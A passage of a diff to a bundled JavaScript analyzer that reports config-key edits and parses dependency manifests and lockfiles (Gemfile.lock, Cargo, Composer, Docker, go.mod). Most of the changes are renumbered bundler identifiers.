+  const { title, path: path26 } = setting.document;
+  return { kind: `document-${kind}`, ...whereabouts(setting, kind), name: title ?? path26 };
 }
-function removalFact(setting) {
+function removalFact(edit) {
+  const { setting, maybe } = edit;
   const { document: document2, inSchema } = setting;
   const where = whereabouts(setting, "removed");
   const together3 = document2.isPublic ? {} : { group: `${document2.path}#removed` };
-  return { kind: "key-removed", ...where, ...together3, ...called5(setting), ...inSchema ? { inSchema } : {} };
+  const more = { ...inSchema ? { inSchema } : {}, ...maybe === void 0 ? {} : { maybe } };
+  return { kind: "key-removed", ...where, ...together3, ...called5(setting), ...more, ...readingOf(edit) };
 }
-function renameFact(setting, from3) {
+function renameFact(edit) {
+  const { setting, from: from3 = "", reader } = edit;
   const to2 = setting.keys.at(-1) ?? "";
   const key4 = `${from3}->${to2}`;
-  return { kind: "key-renamed", ...whereabouts(setting, key4), group: `#${key4}`, from: from3, to: to2 };
+  const where = { ...whereabouts(setting, key4), group: `#${key4}` };
+  return { kind: "key-renamed", ...where, from: from3, to: to2, ...reader === void 0 ? {} : { reader }, ...readingOf(edit) };
 }
-function moveFact(setting, from3) {
+function moveFact(edit) {
+  const { setting, from: from3 = "" } = edit;
   const to2 = displayPath(setting.path);
-  return { kind: "key-moved", ...whereabouts(setting, `${from3}->${to2}`), from: from3, to: to2 };
+  return { kind: "key-moved", ...whereabouts(setting, `${from3}->${to2}`), from: from3, to: to2, ...readingOf(edit) };
 }
 function valueFact(setting) {
   const { before: before3, after: after2 } = setting;
@@ -34191,7 +40297,7 @@ function typeOf(node2) {
   const type = typeof node2.value;
   return type === "number" || type === "boolean" ? type : "string";
 }
-var FACTS, called5, sameText2;
+var FACTS, called5, readingOf, sameText2;
 var init_structure = __esm({
   "src/domains/config/structure.ts"() {
     "use strict";
@@ -34203,11 +40309,16 @@ var init_structure = __esm({
       changed: ({ setting }) => valueFact(setting),
       retyped: ({ setting }) => valueFact(setting),
       added: ({ setting }) => ({ kind: "key-added", ...whereabouts(setting, "added"), ...called5(setting) }),
-      removed: ({ setting }) => removalFact(setting),
-      renamed: ({ setting, from: from3 = "" }) => renameFact(setting, from3),
-      moved: ({ setting, from: from3 = "" }) => moveFact(setting, from3)
+      removed: removalFact,
+      renamed: renameFact,
+      moved: moveFact
     };
-    called5 = ({ path: path25, name }) => ({ name, what: path25.at(-1)?.kind ?? "key" });
+    called5 = ({ path: path26, name }) => ({ name, what: path26.at(-1)?.kind ?? "key" });
+    readingOf = ({ stillRead, setting: { path: path26 } }) => stillRead === void 0 ? {} : {
+      stillRead,
+      group: `${stillRead.path} ${displayPath(path26)}`,
+      after: { path: stillRead.path, line: stillRead.line }
+    };
     sameText2 = (a, b3) => a.kind === "scalar" && b3.kind === "scalar" && a.text === b3.text;
   }
 });
@@ -34217,22 +40328,34 @@ function pairOf(paired, { settings }) {
   const known3 = paired.after ?? paired.before;
   if (known3 === void 0) return [];
   const { document: document2, dialect: dialect26, title } = known3;
-  const { path: path25 } = document2;
-  const context = { dialect: dialect26?.name, area: areaOf(path25), isPublic: settings.config.isPublic(path25) };
+  const { path: path26 } = document2;
+  const context = { dialect: dialect26?.name, area: areaOf(path26), isPublic: settings.config.isPublic(path26) };
   const sides = { before: paired.before?.document, after: paired.after?.document };
-  return [{ pair: { ...sides, path: path25, title, ...context }, dialect: dialect26 }];
+  return [{ pair: { ...sides, path: path26, title, ...context }, dialect: dialect26 }];
 }
-function documentFacts(pair2, dialect26) {
-  const ofEdits = withMoves(diff(pair2, dialect26)).flatMap((edit) => editFacts(edit, dialect26));
+async function editsOf(documents, input2) {
+  const first = documents.map(({ pair: pair2, dialect: dialect26 }) => diff(pair2, dialect26));
+  const evidence = await evidenceFor(first.flat(), input2);
+  const all = documents.map(({ pair: pair2, dialect: dialect26 }, i) => {
+    const edits = first[i] ?? [];
+    const again = evidence !== noEvidence && mayHoldRename(edits);
+    return withMoves(again ? diff(pair2, dialect26, evidence) : edits);
+  });
+  return Promise.all(all.map((edits) => withStillRead(edits, input2)));
+}
+function documentFacts(document2, edits, credentials) {
+  if (document2 === void 0) return [];
+  const { pair: pair2, dialect: dialect26 } = document2;
+  const ofEdits = edits.flatMap((edit) => editFacts(edit, dialect26, credentials));
   const ofEffects = (dialect26?.effective?.(pair2) ?? []).flatMap(
     (setting) => movedControl(controlsOf(dialect26?.name), setting, dialect26) ?? []
   );
   return [...ofEdits, ...ofEffects];
 }
-function editFacts(edit, dialect26) {
+function editFacts(edit, dialect26, credentials) {
   const { setting } = edit;
-  const spoken2 = [writtenSecret(setting) ?? [], movedControl(controlsOf(dialect26?.name), setting, dialect26) ?? []].flat();
-  return spoken2.length > 0 || owns(dialect26, setting) ? spoken2 : [structuralFact(edit) ?? []].flat();
+  const spoken2 = writtenSecret(setting, credentials) ?? movedControl(controlsOf(dialect26?.name), setting, dialect26);
+  return spoken2 !== void 0 || owns(dialect26, setting) ? [spoken2 ?? []].flat() : [structuralFact(edit) ?? []].flat();
 }
 function dialectFacts(dialect26, documents, { settings }) {
   const own3 = documents.filter((each) => each.dialect === dialect26).map(({ pair: pair2 }) => pair2);
@@ -34246,34 +40369,44 @@ var init_analyzer = __esm({
     init_aggregate();
     init_area();
     init_dialects();
+    init_credentials();
     init_diff();
     init_claims();
     init_file_facts();
     init_judge();
     init_gather();
+    init_patches();
     init_modifiers();
     init_moves();
     init_pair_documents();
     init_parse();
+    init_evidence();
+    init_readers();
     init_rules();
     init_secrets2();
     init_structure();
     config2 = {
       domain: "config",
-      rules: rules3,
+      rules: rules4,
       modifiers,
       claims: isConfiguration,
       async analyze(input2) {
-        const { pairs: changed4, unreadable } = await parsePairs(input2, parse3);
-        const apis = await gatherApis(changed4, input2);
-        const files4 = [...changed4, ...apis.roots];
+        const { pairs, unreadable } = await parsePairs(input2, parse3);
+        const [patched, apis] = await Promise.all([withPatches(pairs, input2), gatherApis(pairs, input2)]);
+        const files4 = [...patched, ...apis.roots];
         const documents = pairDocuments(files4, dialects).flatMap((paired) => pairOf(paired, input2));
-        const ofTrees = documents.flatMap(({ pair: pair2, dialect: dialect26 }) => documentFacts(pair2, dialect26));
+        const edits = await editsOf(documents, input2);
+        const credentials = await credentialsIn(textsToSearch(edits.flat().map(({ setting }) => setting)));
+        const ofTrees = edits.flatMap((some2, i) => documentFacts(documents[i], some2, credentials));
         const ofDialects = dialects.flatMap((dialect26) => dialectFacts(dialect26, documents, input2));
-        return [...unreadable, ...apis.unreadable, ...aggregate([...ofTrees, ...files4.flatMap(fileFacts), ...ofDialects])];
+        return [
+          ...unreadable,
+          ...apis.unreadable,
+          ...aggregate([...ofTrees, ...withoutTold(files4.flatMap(fileFacts), ofTrees), ...ofDialects])
+        ];
       }
     };
-    controlsOf = controlsAmong(rules3);
+    controlsOf = controlsAmong(rules4);
   }
 });
 
@@ -34387,8 +40520,8 @@ function gitReference(url2, ref = "") {
   return COMMIT.test(ref) ? { source, version: "", digest: ref } : { source, version: ref.replace(/^.*\/(?=v?[0-9])/, "") };
 }
 function originOf2(option2) {
-  const [path25, github] = [option2("path"), option2("github")];
-  if (path25 !== void 0) return { written: path25, version: "", source: { kind: "file", location: path25 } };
+  const [path26, github] = [option2("path"), option2("github")];
+  if (path26 !== void 0) return { written: path26, version: "", source: { kind: "file", location: path26 } };
   const url2 = option2("git") ?? (github === void 0 ? void 0 : `https://github.com/${github}`);
   if (url2 === void 0) return {};
   const ref = ["rev", "ref", "tag", "branch"].map(option2).find((text4) => text4 !== void 0);
@@ -34407,7 +40540,7 @@ var init_git_reference = __esm({
 // src/domains/dependencies/parsers/gemfile-lock.ts
 function parseGemfileLock(text4) {
   const lines = text4.split(/\r?\n/);
-  const direct = new Set(namesIn3(lines, "DEPENDENCIES"));
+  const direct = new Set(namesIn4(lines, "DEPENDENCIES"));
   const dependencies3 = partsOf2(lines).flatMap(
     ({ heading: heading2, fields, gems }) => gems.map(({ name, version, line: line2, requires }) => ({
       name,
@@ -34442,10 +40575,10 @@ function take(part, raw, line2) {
 function lockedFrom(heading2, remote, revision) {
   if (heading2 === "PATH") return { source: { kind: "workspace", location: "" } };
   if (heading2 !== "GIT") return { source: { kind: "registry", location: hostOf2(remote) } };
-  const { source, digest: digest2 } = gitReference(remote, revision);
-  return { source, digest: digest2 };
+  const { source, digest: digest3 } = gitReference(remote, revision);
+  return { source, digest: digest3 };
 }
-function namesIn3(lines, heading2) {
+function namesIn4(lines, heading2) {
   const start2 = lines.indexOf(heading2) + 1;
   if (start2 === 0) return [];
   const length = lines.slice(start2).findIndex((line2) => !line2.startsWith("  "));
@@ -34564,10 +40697,10 @@ function releaseNumbers(version) {
   return release4?.split(".").map(Number);
 }
 function partsOf3(version) {
-  const [bare3 = ""] = version.replace(/^v(?=[0-9])/i, "").split("+", 1);
-  const hyphen = bare3.indexOf("-");
-  if (hyphen === -1) return { release: bare3.split("."), prerelease: [] };
-  return { release: bare3.slice(0, hyphen).split("."), prerelease: bare3.slice(hyphen + 1).split(".") };
+  const [bare4 = ""] = version.replace(/^v(?=[0-9])/i, "").split("+", 1);
+  const hyphen = bare4.indexOf("-");
+  if (hyphen === -1) return { release: bare4.split("."), prerelease: [] };
+  return { release: bare4.slice(0, hyphen).split("."), prerelease: bare4.slice(hyphen + 1).split(".") };
 }
 function compareIdentifiers(a, b3) {
   if (isNumeral(a) && isNumeral(b3)) return compareNumerals(a, b3);
@@ -34644,7 +40777,7 @@ function compareHighs(a, b3) {
   return compareParts(a.numbers, b3.numbers) || Number(a.admitted) - Number(b3.admitted);
 }
 function boundsOf(language2, text4) {
-  if (text4.length > LONGEST7) return void 0;
+  if (text4.length > LONGEST11) return void 0;
   const [first, ...others] = normalised(text4).split(/ ?\|\|? ?/).map((alternative) => intersectionOf(language2, alternative));
   return others.reduce((all, one) => all && one && join5(language2, all, one, "widest"), first);
 }
@@ -34670,17 +40803,17 @@ function boundsOfTerm({ operators, numbers }, term) {
   if (read4 === void 0) return void 0;
   return written3.length > version.length && meaning !== "anything" ? BOUNDS.series(version, [...read4, 0]) : BOUNDS[meaning](version, read4);
 }
-var COMPARISONS, LONGEST7, ANYTHING, after, isPartial, BOUNDS, upToNext, firstSignificant, schemeOf2, normalised;
+var COMPARISONS, LONGEST11, ANYTHING, after, isPartial2, BOUNDS, upToNext, firstSignificant, schemeOf2, normalised;
 var init_ranges = __esm({
   "src/domains/dependencies/versions/ranges.ts"() {
     "use strict";
     init_numbered();
     init_scheme();
     COMPARISONS = { ">": "from", ">=": "from", "<": "below", "<=": "up-to", "!=": "anything" };
-    LONGEST7 = 500;
+    LONGEST11 = 500;
     ANYTHING = { exact: false };
     after = (numbers) => [...numbers.slice(0, -1), (numbers.at(-1) ?? 0) + 1];
-    isPartial = (numbers) => numbers.length < 3;
+    isPartial2 = (numbers) => numbers.length < 3;
     BOUNDS = {
       anything: () => ANYTHING,
       exact: (low, numbers) => ({
@@ -34696,10 +40829,10 @@ var init_ranges = __esm({
       /** As Cargo reads `>1.3`: past every 1.3. */
       past: (low, numbers) => ({
         exact: false,
-        low: isPartial(numbers) ? after(numbers).join(".") : low
+        low: isPartial2(numbers) ? after(numbers).join(".") : low
       }),
       /** As Cargo reads `<=1.3`: every 1.3 too. */
-      through: (text4, numbers) => isPartial(numbers) ? { exact: false, high: { numbers: after(numbers), admitted: false, text: text4 } } : { exact: false, high: { numbers, admitted: true, text: text4 } },
+      through: (text4, numbers) => isPartial2(numbers) ? { exact: false, high: { numbers: after(numbers), admitted: false, text: text4 } } : { exact: false, high: { numbers, admitted: true, text: text4 } },
       below: (text4, numbers) => ({
         exact: false,
         high: { numbers, admitted: false, text: text4 }
@@ -34781,10 +40914,10 @@ var init_bundler = __esm({
     bundler = {
       name: "bundler",
       versions: ruby,
-      claims: (path25) => [GEMFILE, LOCK, RUBY].some((pattern) => pattern.test(path25)),
-      parse(text4, path25) {
-        if (LOCK.test(path25)) return parseGemfileLock(text4);
-        return RUBY.test(path25) ? versionFile("ruby", text4.replace(/^ruby-/m, "")) : parseGemfile(text4);
+      claims: (path26) => [GEMFILE, LOCK, RUBY].some((pattern) => pattern.test(path26)),
+      parse(text4, path26) {
+        if (LOCK.test(path26)) return parseGemfileLock(text4);
+        return RUBY.test(path26) ? versionFile("ruby", text4.replace(/^ruby-/m, "")) : parseGemfile(text4);
       }
     };
     bundler_default = bundler;
@@ -35761,8 +41894,8 @@ function entryOf(locked5) {
   const [, kind = "", address = ""] = /^(\w+)\+(.*)$/.exec(stringAt(locked5.table, "source") ?? "") ?? [];
   if (kind !== "git") return { ...entry2, source: { kind: "registry", location: hostOf2(address) } };
   const [url2 = "", commit2] = address.split("#", 2);
-  const { source, digest: digest2 } = gitReference(url2.replace(/\?.*$/, ""), commit2);
-  return { ...entry2, source, digest: digest2 };
+  const { source, digest: digest3 } = gitReference(url2.replace(/\?.*$/, ""), commit2);
+  return { ...entry2, source, digest: digest3 };
 }
 var isNamed2, slotOf, withoutVersion2;
 var init_cargo_lock = __esm({
@@ -35789,7 +41922,7 @@ function parseJson2(text4, format2 = "json") {
     else parent.members.set(parent.key.name, node2);
   };
   const begin = (line2) => {
-    if (stack.length > DEEPEST2) throw new Unreadable(`it nests deeper than ${DEEPEST2} levels`, line2 + 1);
+    if (stack.length > DEEPEST3) throw new Unreadable(`it nests deeper than ${DEEPEST3} levels`, line2 + 1);
     stack.push(open(keyLine(line2 + 1)));
   };
   const end = (line2) => {
@@ -35820,13 +41953,13 @@ function textOf3(node2, key4) {
   const value = node2?.members.get(key4)?.value;
   return typeof value === "string" ? value : void 0;
 }
-var DEEPEST2, open, SAID, membersOf;
+var DEEPEST3, open, SAID, membersOf;
 var init_json2 = __esm({
   "src/domains/dependencies/parsers/json.ts"() {
     "use strict";
     init_main();
     init_errors();
-    DEEPEST2 = 200;
+    DEEPEST3 = 200;
     open = (line2) => ({ line: line2, endLine: line2, members: /* @__PURE__ */ new Map(), items: [] });
     SAID = {
       CloseBraceExpected: "a closing brace is missing",
@@ -37949,28 +44082,28 @@ function assign(table2, { key: key4, value, loc }, depth) {
   parent.members.set(names4.at(-1) ?? "", valueOf2(value, loc, depth));
 }
 function valueOf2(node2, { start: start2, end }, depth) {
-  if (depth > DEEPEST3) throw new Unreadable(`it nests deeper than ${DEEPEST3} levels`, start2.line);
+  if (depth > DEEPEST4) throw new Unreadable(`it nests deeper than ${DEEPEST4} levels`, start2.line);
   const made = open2(start2.line, end.line);
   if (node2.type === "TOMLArray") made.items.push(...node2.elements.map((item2) => valueOf2(item2, item2.loc, depth + 1)));
   else if (node2.type === "TOMLInlineTable") for (const pair2 of node2.body) assign(made, pair2, depth + 1);
   else made.value = typeof node2.value === "object" ? node2.value.toISOString() : node2.value;
   return made;
 }
-var DEEPEST3, open2;
+var DEEPEST4, open2;
 var init_toml = __esm({
   "src/domains/dependencies/parsers/toml.ts"() {
     "use strict";
     init_lib2();
     init_errors();
-    DEEPEST3 = 200;
+    DEEPEST4 = 200;
     open2 = (line2, endLine = line2) => ({ line: line2, endLine, members: /* @__PURE__ */ new Map(), items: [] });
   }
 });
 
 // src/domains/dependencies/parsers/tree.ts
-function nodesAt(root, path25) {
+function nodesAt(root, path26) {
   let found = [{ section: "", node: root }];
-  for (const step3 of path25.split(".")) found = found.flatMap(({ section: section2, node: node2 }) => below5(section2, node2, step3));
+  for (const step3 of path26.split(".")) found = found.flatMap(({ section: section2, node: node2 }) => below5(section2, node2, step3));
   return found;
 }
 function below5(section2, { members }, step3) {
@@ -37991,9 +44124,9 @@ var init_tree2 = __esm({
 // src/domains/dependencies/parsers/cargo-manifest.ts
 function parseCargoManifest(text4) {
   const root = parseToml(text4);
-  const tables = TABLES.flatMap(([path25, scope2]) => nodesAt(root, path25).map((found) => ({ found, scope: scope2 })));
+  const tables = TABLES.flatMap(([path26, scope2]) => nodesAt(root, path26).map((found) => ({ found, scope: scope2 })));
   const dependencies3 = [
-    ...["package.rust-version", "workspace.package.rust-version"].flatMap((path25) => nodesAt(root, path25)).flatMap(rustOf),
+    ...["package.rust-version", "workspace.package.rust-version"].flatMap((path26) => nodesAt(root, path26)).flatMap(rustOf),
     ...tables.flatMap(({ found, scope: scope2 }) => tableEntries(found, scope2)),
     ...nodesAt(root, "patch.*").flatMap((found) => tableEntries(found, void 0).map(asOverride)),
     ...nodesAt(root, "replace").flatMap((found) => tableEntries(found, void 0).map(asOverride))
@@ -38018,15 +44151,15 @@ function entryOf2(key4, section2, node2, scope2) {
   ];
 }
 function originOf3(node2, written3) {
-  const [git2, path25, registry3] = [textOf3(node2, "git"), textOf3(node2, "path"), textOf3(node2, "registry")];
+  const [git2, path26, registry3] = [textOf3(node2, "git"), textOf3(node2, "path"), textOf3(node2, "registry")];
   if (git2 !== void 0) {
     const key4 = ["rev", "tag", "branch"].find((name) => node2.members.has(name));
     const ref = key4 === void 0 ? void 0 : textOf3(node2, key4);
     const line2 = key4 === void 0 ? void 0 : node2.members.get(key4)?.line;
     return { ...gitReference(git2, ref), written: ref ?? written3, ...line2 === void 0 ? {} : { line: line2 } };
   }
-  if (path25 !== void 0)
-    return written3 === null ? { source: { kind: "file", location: path25 } } : { source: { kind: "workspace", location: "" } };
+  if (path26 !== void 0)
+    return written3 === null ? { source: { kind: "file", location: path26 } } : { source: { kind: "workspace", location: "" } };
   return registry3 === void 0 ? {} : { source: { kind: "registry", location: registry3 } };
 }
 var TABLES, asOverride, rustOf, tableEntries, isSwitchedOn, INHERITED2;
@@ -38137,14 +44270,14 @@ var init_cargo = __esm({
       [/(?:^|\/)Cargo\.lock$/, parseCargoLock],
       [/(?:^|\/)rust-toolchain(?:\.toml)?$/, parseToolchain]
     ];
-    parserOf = (path25) => PARSERS2.find(([pattern]) => pattern.test(path25))?.[1];
+    parserOf = (path26) => PARSERS2.find(([pattern]) => pattern.test(path26))?.[1];
     cargo2 = {
       name: "cargo",
       versions: cargo,
       language: rust,
-      claims: (path25) => parserOf(path25) !== void 0,
-      parse: (text4, path25) => parserOf(path25)?.(text4) ?? { dependencies: [] },
-      manifestsOf: (path25) => [path25.replace(/lock$/, "toml")]
+      claims: (path26) => parserOf(path26) !== void 0,
+      parse: (text4, path26) => parserOf(path26)?.(text4) ?? { dependencies: [] },
+      manifestsOf: (path26) => [path26.replace(/lock$/, "toml")]
     };
     cargo_default = cargo2;
   }
@@ -38153,7 +44286,7 @@ var init_cargo = __esm({
 // src/domains/dependencies/parsers/composer-json.ts
 function parseComposer(text4) {
   const root = parseJson2(text4);
-  const tables = TABLES2.flatMap(([path25, known3]) => nodesAt(root, path25).map((found) => ({ found, known: known3 })));
+  const tables = TABLES2.flatMap(([path26, known3]) => nodesAt(root, path26).map((found) => ({ found, known: known3 })));
   const packages = tables.flatMap(
     ({ found: { section: section2, node: node2 }, known: known3 }) => [...node2.members].flatMap(
       ([name, { value, line: line2 }]) => typeof value === "string" ? [{ name, written: value, section: section2, ...known3, ...platform(name), line: line2 }] : []
@@ -38184,7 +44317,7 @@ function repositories(root) {
 function parseComposerLock(text4) {
   const root = parseJson2(text4);
   const dependencies3 = ["packages", "packages-dev"].flatMap(
-    (path25) => nodesAt(root, path25).flatMap(({ section: section2, node: node2 }) => node2.items.map((item2) => locked(item2, section2)))
+    (path26) => nodesAt(root, path26).flatMap(({ section: section2, node: node2 }) => node2.items.map((item2) => locked(item2, section2)))
   );
   return { dependencies: dependencies3, lockfile: true };
 }
@@ -38235,9 +44368,9 @@ function compareComposer(a, b3) {
   return compareLists(left.release, right.release, "0", compareNumerals) || left.stability - right.stability || compareNumerals(left.count, right.count);
 }
 function read3(version) {
-  const bare3 = version.replace(/^v(?=[0-9])/i, "");
-  const [release4 = ""] = /^[0-9.]+/.exec(bare3) ?? [];
-  const [, word2 = "", count7 = ""] = STABILITY.exec(bare3.slice(release4.length)) ?? [];
+  const bare4 = version.replace(/^v(?=[0-9])/i, "");
+  const [release4 = ""] = /^[0-9.]+/.exec(bare4) ?? [];
+  const [, word2 = "", count7 = ""] = STABILITY.exec(bare4.slice(release4.length)) ?? [];
   const name = word2.toLowerCase();
   return {
     release: release4.split(".").filter(Boolean),
@@ -38290,10 +44423,10 @@ var init_composer2 = __esm({
     composer2 = {
       name: "composer",
       versions: composer,
-      claims: (path25) => /(?:^|\/)composer\.json$/.test(path25) || LOCK2.test(path25),
-      parse: (text4, path25) => LOCK2.test(path25) ? parseComposerLock(text4) : parseComposer(text4),
+      claims: (path26) => /(?:^|\/)composer\.json$/.test(path26) || LOCK2.test(path26),
+      parse: (text4, path26) => LOCK2.test(path26) ? parseComposerLock(text4) : parseComposer(text4),
       canonical: (name) => name.toLowerCase(),
-      manifestsOf: (path25) => [path25.replace(/lock$/, "json")]
+      manifestsOf: (path26) => [path26.replace(/lock$/, "json")]
     };
     composer_default = composer2;
   }
@@ -38301,19 +44434,19 @@ var init_composer2 = __esm({
 
 // src/domains/dependencies/parsers/image.ts
 function readImage(text4) {
-  if (text4.length > LONGEST8 || PICTURE.test(text4)) return void 0;
-  const { name, tag: tag2, digest: digest2 } = REFERENCE.exec(text4)?.groups ?? {};
+  if (text4.length > LONGEST12 || PICTURE.test(text4)) return void 0;
+  const { name, tag: tag2, digest: digest3 } = REFERENCE.exec(text4)?.groups ?? {};
   if (name === void 0) return void 0;
   const written3 = text4.slice(name.length).replace(/^:/, "");
-  return { name, written: written3 || null, version: tag2?.slice(1) ?? "", digest: digest2?.slice(1) };
+  return { name, written: written3 || null, version: tag2?.slice(1) ?? "", digest: digest3?.slice(1) };
 }
 function readComputedImage(text4) {
-  const { name, rest } = (text4.length > LONGEST8 ? null : COMPUTED.exec(text4))?.groups ?? {};
+  const { name, rest } = (text4.length > LONGEST12 ? null : COMPUTED.exec(text4))?.groups ?? {};
   return name === void 0 || rest === void 0 ? void 0 : { name, written: rest, version: "" };
 }
 function substitute(text4, valueOf6) {
   let filled2 = { text: text4, variables: [] };
-  for (let depth = 0; depth < DEEPEST4 && (depth === 0 || filled2.text.includes("$")); depth++) {
+  for (let depth = 0; depth < DEEPEST5 && (depth === 0 || filled2.text.includes("$")); depth++) {
     const next = substituteOnce(filled2.text, valueOf6);
     if (next === void 0) return void 0;
     filled2 = { text: next.text, variables: [...filled2.variables, ...next.variables] };
@@ -38327,23 +44460,23 @@ function substituteOnce(text4, valueOf6) {
     const name = braced ?? plain ?? "";
     const value = valueOf6(name) ?? fallback ?? "";
     length += value.length;
-    if (value === "" || length > LONGEST8) return void 0;
+    if (value === "" || length > LONGEST12) return void 0;
     variables.push({ name, value });
   }
   let next = 0;
   const filled2 = text4.replace(VARIABLE2, () => variables[next++]?.value ?? "");
   return { text: filled2, variables };
 }
-var LONGEST8, REFERENCE, PICTURE, COMPUTED, VARIABLE2, DEEPEST4, holderOf;
+var LONGEST12, REFERENCE, PICTURE, COMPUTED, VARIABLE2, DEEPEST5, holderOf;
 var init_image = __esm({
   "src/domains/dependencies/parsers/image.ts"() {
     "use strict";
-    LONGEST8 = 512;
+    LONGEST12 = 512;
     REFERENCE = /^(?<name>(?:[\w.-]+:\d+\/)?[a-z0-9][\w.-]*(?:\/[a-z0-9][\w.-]*)*)(?<tag>:[\w][\w.-]*)?(?<digest>@sha256:[0-9a-f]{64})?$/i;
     PICTURE = /\.(?:avif|gif|ico|img|iso|jpe?g|png|qcow2|svg|webp)$/i;
     COMPUTED = /^(?<name>(?:[\w.-]+:\d+\/)?[a-z0-9][\w.-]*(?:\/[a-z0-9][\w.-]*)*)[:@](?<rest>[^\s:@]*(?:\$|\{\{).*)$/i;
     VARIABLE2 = /\$\{(\w+)(?::?-([^}]*))?\}|\$(\w+)/g;
-    DEEPEST4 = 3;
+    DEEPEST5 = 3;
     holderOf = ({ variables }, { version = "" }) => version === "" ? void 0 : variables.findLast(({ value }) => version.startsWith(value) || value.includes(version))?.name;
   }
 });
@@ -38549,11 +44682,11 @@ function fromText(node2) {
 function fromParts(node2) {
   const repository2 = partOf(node2, "repository", "newName") ?? kustomizeName(node2);
   const tag2 = partOf(node2, "tag", "newTag");
-  const digest2 = partOf(node2, "digest");
-  const holder = tag2 ?? digest2;
+  const digest3 = partOf(node2, "digest");
+  const holder = tag2 ?? digest3;
   if (repository2 === void 0 || holder === void 0) return void 0;
   const name = [partOf(node2, "registry"), repository2].flatMap((part) => part?.value ?? []).join("/");
-  const image = readImage([name, tag2 && `:${tag2.value}`, digest2 && `@${digest2.value}`].join(""));
+  const image = readImage([name, tag2 && `:${tag2.value}`, digest3 && `@${digest3.value}`].join(""));
   const section2 = node2.key === "-" ? "images" : node2.key;
   return image && { ...image, section: section2, slot: node2.parent?.key, line: holder.line };
 }
@@ -38606,19 +44739,19 @@ function compareVariant(a, b3) {
   if (wordsOf3(a.variant) !== wordsOf3(b3.variant)) return 0;
   return compareParts(numbersOf(a.variant), numbersOf(b3.variant));
 }
-var LONGEST9, PRERELEASE, DATE, COMMIT2, NUMBERS, tag, isCalendar2, prereleaseOf, wordsOf3, numbersOf;
+var LONGEST13, PRERELEASE, DATE, COMMIT2, NUMBERS, tag, isCalendar2, prereleaseOf, wordsOf3, numbersOf;
 var init_tag = __esm({
   "src/domains/dependencies/versions/tag.ts"() {
     "use strict";
     init_scheme();
-    LONGEST9 = 256;
+    LONGEST13 = 256;
     PRERELEASE = /^(?:alpha|beta|preview|pre|rc|m|milestone|dev|nightly|snapshot|canary)[.-]?\d*(?=$|[-.])/i;
     DATE = /^(?:(?<name>[a-z]+)[-.])?(?<year>(?:19|20)\d\d)[-.]?(?<month>0[1-9]|1[0-2])[-.]?(?<day>[0-3]\d)(?!\d)/i;
     COMMIT2 = /[-+.]g?(?=[0-9a-f]*[a-f])(?=[0-9a-f]*\d)[0-9a-f]{7,40}$/;
     NUMBERS = /^(?:v|version-|release-|go)?(?<numbers>\d{1,9}(?:\.\d{1,9}){0,3})(?:_(?<build>\d{1,6}))?(?<rest>[-+.a-z].*)?$/i;
     tag = {
       name: "tag",
-      parse: (text4) => text4.length > LONGEST9 ? void 0 : byDate(text4) ?? byNumbers(text4),
+      parse: (text4) => text4.length > LONGEST13 ? void 0 : byDate(text4) ?? byNumbers(text4),
       compare(a, b3) {
         return compareParts(a.parts, b3.parts) || comparePrerelease(a, b3) || compareVariant(a, b3);
       }
@@ -38649,12 +44782,12 @@ var init_docker = __esm({
     docker = {
       name: "docker",
       versions: tag,
-      claims: (path25) => DOCKERFILE.test(path25) || COMPOSE.test(path25) || DEVCONTAINER.test(path25),
-      visits: (path25) => YAML.test(path25) && !LOCKED2.test(path25) || ENVIRONMENT.test(path25),
-      parse(text4, path25) {
-        if (YAML.test(path25)) return parseYamlImages(text4);
-        if (ENVIRONMENT.test(path25)) return parseEnvImages(text4);
-        return DEVCONTAINER.test(path25) ? parseDevcontainer(text4) : parseDockerfile(text4);
+      claims: (path26) => DOCKERFILE.test(path26) || COMPOSE.test(path26) || DEVCONTAINER.test(path26),
+      visits: (path26) => YAML.test(path26) && !LOCKED2.test(path26) || ENVIRONMENT.test(path26),
+      parse(text4, path26) {
+        if (YAML.test(path26)) return parseYamlImages(text4);
+        if (ENVIRONMENT.test(path26)) return parseEnvImages(text4);
+        return DEVCONTAINER.test(path26) ? parseDevcontainer(text4) : parseDockerfile(text4);
       },
       canonical: (name) => name.replace(/^(?:(?:registry-1\.|index\.)?docker\.io\/)?(?:library\/)?/, ""),
       /** The same image in another registry or under another owner, and `static-debian12` after `static-debian11`. */
@@ -38707,7 +44840,7 @@ var init_github_actions = __esm({
     githubActions = {
       name: "github-actions",
       versions: tag,
-      claims: (path25) => WORKFLOW.test(path25),
+      claims: (path26) => WORKFLOW.test(path26),
       parse: parseWorkflow,
       /** The same action of another owner. */
       family: (name) => name.slice(name.indexOf("/") + 1)
@@ -38718,7 +44851,7 @@ var init_github_actions = __esm({
 
 // src/domains/dependencies/imports/go.ts
 function importsOf2(text4) {
-  if (LEFT_OUT.test(text4)) return [];
+  if (LEFT_OUT2.test(text4)) return [];
   const code3 = blanked(text4, LITERALS2);
   const lineOf5 = lineCounter(text4);
   return [...code3.matchAll(DECLARATION)].flatMap(
@@ -38728,14 +44861,14 @@ function importsOf2(text4) {
     })
   );
 }
-var LITERALS2, DECLARATION, LEFT_OUT, goLanguage;
+var LITERALS2, DECLARATION, LEFT_OUT2, goLanguage;
 var init_go = __esm({
   "src/domains/dependencies/imports/go.ts"() {
     "use strict";
     init_language();
     LITERALS2 = /\/\/[^\n]*|\/\*[\s\S]*?(?:\*\/|$)|"(?:\\.|[^"\\\n])*(?:"|(?=\\?\n)|\\?$)|`[^`]*(?:`|$)|'(?:\\.|[^'\\\n])*(?:'|(?=\\?\n)|\\?$)/g;
     DECLARATION = /^import\s*(?:\(([^)]*)\)|(?:[\w.]+\s+)?["`] *["`])/gm;
-    LEFT_OUT = /^\/\/(?:go:build|\s*\+build)\s[^\n]*\bignore\b/m;
+    LEFT_OUT2 = /^\/\/(?:go:build|\s*\+build)\s[^\n]*\bignore\b/m;
     goLanguage = {
       sources: /(?:^|\/)[^_./][^/]*\.go$/,
       separator: "/",
@@ -38783,7 +44916,7 @@ function parseGoMod(text4) {
     replacements: byPath(replacements)
   };
   const required = new Set(directives.filter(({ word: word2 }) => word2 === "require").map(({ tokens: tokens3 }) => tokens3[0]));
-  const stray = replacements.filter(({ path: path25 }) => !required.has(path25));
+  const stray = replacements.filter(({ path: path26 }) => !required.has(path26));
   return {
     dependencies: [
       ...directives.flatMap((directive) => entriesOf2(directive, known3)),
@@ -38823,10 +44956,10 @@ function splitComment(line2) {
 }
 function replacementOf({ tokens: tokens3, line: line2 }) {
   const arrow = tokens3.indexOf("=>");
-  const [path25, target] = [tokens3[0], tokens3[arrow + 1]];
-  if (arrow < 1 || path25 === void 0 || target === void 0)
